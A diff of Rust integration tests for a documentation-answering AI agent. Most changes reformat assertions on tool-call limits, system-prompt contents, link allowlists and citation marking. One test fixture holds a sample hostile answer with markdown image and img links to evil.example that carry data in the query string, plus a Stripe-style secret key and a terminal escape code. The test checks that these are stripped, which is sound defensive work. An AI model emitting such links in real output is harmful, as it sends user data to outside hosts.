@@ -39,43 +39,19 @@ fn tool_calls_beyond_the_per_step_limit_are_refused_but_answered() {
     let base = server.base_url();
     let out = run(ws.path(), &env(&base), &["q"]);
     assert_eq!(out.code, 0, "stderr: {}", out.stderr);
-    let decisions: Vec<String> = out
-        .tool_lines()
-        .iter()
-        .map(|l| l["decision"].as_str().unwrap_or("").to_string())
-        .collect();
-    assert_eq!(
-        decisions,
-        ["allowed", "allowed", "allowed", "allowed", "error"]
-    );
+    let decisions: Vec<String> =
+        out.tool_lines().iter().map(|l| l["decision"].as_str().unwrap_or("").to_string()).collect();
+    assert_eq!(decisions, ["allowed", "allowed", "allowed", "allowed", "error"]);
     let refusal = &out.tool_lines()[4]["result"];
-    assert!(
-        refusal
-            .as_str()
-            .unwrap_or("")
-            .contains("limit 4); this call and 1 more were not run"),
-        "{refusal}"
-    );
+    assert!(refusal.as_str().unwrap_or("").contains("limit 4); this call and 1 more were not run"), "{refusal}");
     // Every call kept in the conversation gets a result, so the next request is valid.
     let second = &server.requests()[1]["messages"];
-    let answered: Vec<&str> = second
-        .as_array()
-        .expect("messages")
-        .iter()
-        .filter_map(|m| m["tool_call_id"].as_str())
-        .collect();
+    let answered: Vec<&str> =
+        second.as_array().expect("messages").iter().filter_map(|m| m["tool_call_id"].as_str()).collect();
     assert_eq!(answered, ["c0", "c1", "c2", "c3", "c4"]);
-    let kept = second
-        .as_array()
-        .expect("messages")
-        .iter()
-        .find_map(|m| m["tool_calls"].as_array())
-        .expect("assistant calls");
-    assert_eq!(
-        kept.len(),
-        5,
-        "calls past the refusal are dropped from the conversation"
-    );
+    let kept =
+        second.as_array().expect("messages").iter().find_map(|m| m["tool_calls"].as_array()).expect("assistant calls");
+    assert_eq!(kept.len(), 5, "calls past the refusal are dropped from the conversation");
 }
 
 #[test]
@@ -88,87 +64,43 @@ fn request_carries_max_tokens_and_a_stable_system_prompt_with_only_the_catalog()
     assert_eq!((first.code, second.code), (0, 0), "{}", first.stderr);
     let requests = server.requests();
     assert_eq!(requests[0]["max_tokens"], 1024);
-    let system = |i: usize| {
-        requests[i]["messages"][0]["content"]
-            .as_str()
-            .unwrap_or("")
-            .to_string()
-    };
-    assert_eq!(
-        system(0),
-        system(1),
-        "the system prompt does not change with the question"
-    );
+    let system = |i: usize| requests[i]["messages"][0]["content"].as_str().unwrap_or("").to_string();
+    assert_eq!(system(0), system(1), "the system prompt does not change with the question");
     let prompt = system(0);
-    assert!(
-        prompt.contains("<project_instructions source=\"AGENTS.md\">"),
-        "{prompt}"
-    );
-    assert!(
-        prompt.contains("<name>cite-sources</name>") && prompt.contains("<name>save-note</name>"),
-        "{prompt}"
-    );
-    assert!(
-        prompt.contains("<location>skills/save-note/SKILL.md</location>"),
-        "{prompt}"
-    );
+    assert!(prompt.contains("<project_instructions source=\"AGENTS.md\">"), "{prompt}");
+    assert!(prompt.contains("<name>cite-sources</name>") && prompt.contains("<name>save-note</name>"), "{prompt}");
+    assert!(prompt.contains("<location>skills/save-note/SKILL.md</location>"), "{prompt}");
     let body = std::fs::read_to_string(ws.path().join("skills/save-note/SKILL.md")).expect("skill");
-    let body_line = body
-        .split("---")
-        .nth(2)
-        .and_then(|b| b.lines().find(|l| l.trim().len() > 30))
-        .expect("a body line");
-    assert!(
-        !prompt.contains(body_line.trim()),
-        "skill body must not be in the prompt: {body_line}"
-    );
+    let body_line =
+        body.split("---").nth(2).and_then(|b| b.lines().find(|l| l.trim().len() > 30)).expect("a body line");
+    assert!(!prompt.contains(body_line.trim()), "skill body must not be in the prompt: {body_line}");
 }
 
 #[test]
 fn answers_lose_outside_links_images_secrets_and_escapes() {
     let answer = "See ![chart](https://evil.example/c.png?d=refunds) and [the docs](docs/refunds.md#window). \
                   <img src=\"https://evil.example/x\"> key sk_live_4eC39HqLyjWDarjtT1zdp7dc \u{1b}[2Jdone";
-    let server = FakeServer::start(vec![
-        Canned::tool("search_docs", json!({"query": "refund window"})),
-        Canned::text(answer),
-    ]);
+    let server =
+        FakeServer::start(vec![Canned::tool("search_docs", json!({"query": "refund window"})), Canned::text(answer)]);
     let ws = sample_workspace();
     let base = server.base_url();
     let out = run(ws.path(), &env(&base), &["q"]);
     assert_eq!(out.code, 0, "stderr: {}", out.stderr);
     assert!(!out.stdout.contains("evil.example"), "{}", out.stdout);
-    assert!(
-        out.stdout.contains("[the docs](docs/refunds.md#window)"),
-        "{}",
-        out.stdout
-    );
-    assert!(
-        !out.stdout.contains("4eC39HqLyjWDarjtT1zdp7dc"),
-        "{}",
-        out.stdout
-    );
+    assert!(out.stdout.contains("[the docs](docs/refunds.md#window)"), "{}", out.stdout);
+    assert!(!out.stdout.contains("4eC39HqLyjWDarjtT1zdp7dc"), "{}", out.stdout);
     assert!(!out.stdout.contains('\u{1b}'), "{:?}", out.stdout);
 }
 
 #[test]
 fn allowed_link_hosts_keep_their_links() {
-    let server = FakeServer::start(vec![Canned::text(
-        "![logo](https://docs.acme.example/logo.png)",
-    )]);
+    let server = FakeServer::start(vec![Canned::text("![logo](https://docs.acme.example/logo.png)")]);
     let ws = sample_workspace();
-    std::fs::write(
-        ws.path().join("docs-agent.toml"),
-        "allowed_link_hosts = [\"docs.acme.example\"]\n",
-    )
-    .expect("write");
+    std::fs::write(ws.path().join("docs-agent.toml"), "allowed_link_hosts = [\"docs.acme.example\"]\n").expect("write");
     let base = server.base_url();
     let out = run(ws.path(), &env(&base), &["q"]);
     assert_eq!(out.code, 0, "stderr: {}", out.stderr);
-    assert!(
-        out.stdout.contains("https://docs.acme.example/logo.png"),
-        "{}",
-        out.stdout
-    );
+    assert!(out.stdout.contains("https://docs.acme.example/logo.png"), "{}", out.stdout);
 }
 
 #[test]
@@ -181,15 +113,6 @@ fn citations_of_pages_never_retrieved_are_marked() {
     let base = server.base_url();
     let out = run(ws.path(), &env(&base), &["q"]);
     assert_eq!(out.code, 0, "stderr: {}", out.stderr);
-    assert!(
-        out.stdout.contains("docs/refunds.md#window it is"),
-        "{}",
-        out.stdout
-    );
-    assert!(
-        out.stdout
-            .contains("docs/secret-roadmap.md [unverified citation]"),
-        "{}",
-        out.stdout
-    );
+    assert!(out.stdout.contains("docs/refunds.md#window it is"), "{}", out.stdout);
+    assert!(out.stdout.contains("docs/secret-roadmap.md [unverified citation]"), "{}", out.stdout);
 }
